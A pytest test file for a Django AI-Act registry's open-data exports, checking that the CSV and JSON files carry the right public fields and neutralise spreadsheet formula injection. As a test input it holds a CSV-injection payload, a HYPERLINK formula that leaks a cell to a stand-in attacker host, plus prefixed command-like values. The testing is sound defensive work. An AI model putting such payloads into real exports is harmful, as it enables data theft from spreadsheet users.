"""The open-data files (/open-data/…, /api/v1/register/…/export/): every public field of each
registration, in documented columns, streamed; CSV cells that a spreadsheet would run as formulas
are quoted as text, in lists too."""

from __future__ import annotations

import csv
import io
import json

import pytest

from registry.filings.samples import sample_snapshot
from registry.register.selectors import public_snapshot
from registry.register.services.review import filing_register
from tests.queries import count_queries
from tests.web_public.helpers import file, registered

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")'
DANGEROUS_STARTS = ("=", "+", "-", "@", "\t", "\r")


def _read(client, path: str) -> str:  # type: ignore[no-untyped-def]
    response = client.get(path)
    assert response.status_code == 200
    assert response.streaming  # never built in memory
    return b"".join(response.streaming_content).decode()


def _json_rows(client, path: str = "/open-data/register.json") -> list[dict]:  # type: ignore[no-untyped-def]
    return json.loads(_read(client, path))


def _csv_rows(client, path: str = "/open-data/register.csv") -> list[dict]:  # type: ignore[no-untyped-def]
    return list(csv.DictReader(io.StringIO(_read(client, path), newline="")))


def _registered_with_a6_withheld(cast, lead):  # type: ignore[no-untyped-def]
    registration = sample_snapshot(kind="annex_viii_a")["registration"]
    for item in registration["items"]:
        if item["code"] == "A6":
            item["withheld_from_public"] = True
    return registered(
        cast.org_a,
        cast.owner_a,
        lead,
        member_states=("AT", "DE", "FR", "NL"),
        registration=registration,
    )


def _public_fields(filing) -> dict:  # type: ignore[no-untyped-def]
    version = filing.versions.get(number=filing.registered_version_number)
    items = public_snapshot(version.snapshot)["registration"]["items"]
    return {name: value for item in items for name, value in item["fields"].items()}


def _csv_text(value: object) -> str:
    if value is None:
        return ""
    if isinstance(value, list):
        return ";".join(str(v) for v in value)
    return str(value)


@pytest.mark.parametrize("kind", ["annex_viii_a", "annex_viii_b", "annex_viii_c"])
def test_register_files_carry_every_public_field_of_the_registered_version(
    kind, host_client, cast, lead
):  # type: ignore[no-untyped-def]
    filing = file(cast.org_a, cast.owner_a, kind=kind, member_states=("AT", "DE")).filing
    filing_register(actor=lead, filing=filing)
    filing.refresh_from_db()
    fields = _public_fields(filing)
    # Every public Annex VIII item of the section, flattened (no personal fields: public_part).
    assert len(fields) >= 4
    client = host_client("localhost")
    (row,) = _json_rows(client)
    (csv_row,) = _csv_rows(client)
    assert list(row) == list(csv_row)  # the same columns, in the same order
    for name, value in fields.items():
        if name == "member_states":
            value = ["AT", "DE"]  # the filing's (the sample's A10 says otherwise)
        assert row[name] == value, name
        assert csv_row[name] == _csv_text(value), name
    assert row["section"] == kind[-1].upper()
    assert row["organisation_type"] == "private_company"
    assert row["registered_version_submitted_at"] == csv_row["registered_version_submitted_at"]
    # Not public (Art 71(5)): who filed, the risk and QMS summaries, the evidence.
    assert "submitted_by" not in row and "risk_summary" not in row and "evidence" not in row
    assert cast.owner_a.email not in json.dumps(row)
    # Personal data (public_part.PERSONAL_FIELDS) has no column at all.
    assert "submitter_name" not in row and "provider_contact_details" not in row


def test_withheld_items_stay_out_of_the_files(host_client, cast, lead):  # type: ignore[no-untyped-def]
    filing = _registered_with_a6_withheld(cast, lead)
    assert "data_and_logic_description" not in _public_fields(filing)
    client = host_client("localhost")
    (row,) = _json_rows(client)
    (csv_row,) = _csv_rows(client)
    assert row["data_and_logic_description"] is None
    assert csv_row["data_and_logic_description"] == ""
    assert row["intended_purpose"]  # the items around it are there


def test_every_column_is_documented_on_the_open_data_page(host_client, cast, lead):  # type: ignore[no-untyped-def]
    registered(cast.org_a, cast.owner_a, lead)
    client = host_client("localhost")
    page = client.get("/open-data/")
    documented = [name for name, _meaning in page.context["register_columns"]]
    header = _read(client, "/open-data/register.csv").splitlines()[0].split(",")
    assert header == documented
    html = page.content.decode()
    for name in documented:
        assert f'<code lang="zxx">{name}</code>' in html
    assert "Annex VIII A1, B1" in html  # where a field comes from


def test_api_export_is_the_same_file(host_client, cast, lead):  # type: ignore[no-untyped-def]
    registered(cast.org_a, cast.owner_a, lead)
    client = host_client("localhost")
    assert _read(client, "/api/v1/register/filings/export/?format=csv") == _read(
        client, "/open-data/register.csv"
    )
    assert _read(client, "/api/v1/register/filings/export/?format=json") == _read(
        client, "/open-data/register.json"
    )


def test_register_export_queries_do_not_grow_with_the_rows(host_client, cast, lead):  # type: ignore[no-untyped-def]
    client = host_client("localhost")
    registered(cast.org_a, cast.owner_a, lead)
    with count_queries() as one:
        _read(client, "/open-data/register.csv")
    for _ in range(5):
        registered(cast.org_a, cast.owner_a, lead)
    with count_queries() as six:
        assert len(_csv_rows(client)) == 6
    assert six.count == one.count, (one.statements, six.statements)


# --- formulas -------------------------------------------------------------------------------


def test_cells_and_list_elements_cannot_become_formulas():  # type: ignore[no-untyped-def]
    from portal.streaming import csv_cell as _cell

    assert _cell(FORMULA) == "'" + FORMULA
    assert _cell([FORMULA, "Acme-LM"]) == "'" + FORMULA + ";Acme-LM"
    assert _cell(["Acme-LM", "+1", "@SUM(A1)"]) == "Acme-LM;'+1;'@SUM(A1)"
    assert _cell("\tcmd") == "'\tcmd" and _cell("\rcmd") == "'\rcmd"
    assert _cell("-5") == "'-5"
    assert _cell(["DE", "FR"]) == "DE;FR" and _cell("plain") == "plain" and _cell(None) == ""


def _no_formula(rows: list[dict]) -> None:
    for row in rows:
        for name, cell in row.items():
            for part in cell.split(";"):
                assert not part.startswith(DANGEROUS_STARTS), (name, cell)


def test_a_formula_in_a_model_name_reaches_no_csv_unescaped(host_client, cast):  # type: ignore[no-untyped-def]
    version = file(
        cast.org_a,
        cast.owner_a,
        subject_id=cast.org_a.slug,
        kind="cop_signatory_declaration",
        registration={
            "section": None,
            "items": [
                {
                    "code": "CoP-transparency",
                    "title": "Transparency",
                    "citation": "Art 56",
                    "fields": {
                        "status": "signed",
                        "status_date": "2026-08-01",
                        "public_statement_url": "\thttps://acme.example/statement",
                        "models_covered": ["Acme-LM 3", FORMULA, "-1+1"],
                    },
                    "withheld_from_public": False,
                }
            ],
        },
    )
    filing_register(actor=cast.ai_office_lead, filing=version.filing)
    client = host_client("localhost")
    for path in ("/open-data/signatories.csv", "/api/v1/register/signatories/export/?format=csv"):
        (row,) = _csv_rows(client, path)
        assert row["models_covered"] == "Acme-LM 3;'" + FORMULA + ";'-1+1"
        assert row["public_statement_url"] == "'\thttps://acme.example/statement"
        _no_formula([row])


def test_a_formula_in_a_registration_field_reaches_no_csv_unescaped(host_client, cast, lead):  # type: ignore[no-untyped-def]
    registration = sample_snapshot(kind="annex_viii_a")["registration"]
    for item in registration["items"]:
        if item["code"] == "A5":
            item["fields"]["intended_purpose"] = FORMULA
        if item["code"] == "A4":
            item["fields"]["system_reference"] = "\r@cmd"
    registered(cast.org_a, cast.owner_a, lead, registration=registration)
    (row,) = _csv_rows(host_client("localhost"))
    assert row["intended_purpose"] == "'" + FORMULA
    assert row["system_reference"] == "'\r@cmd"
    _no_formula([row])
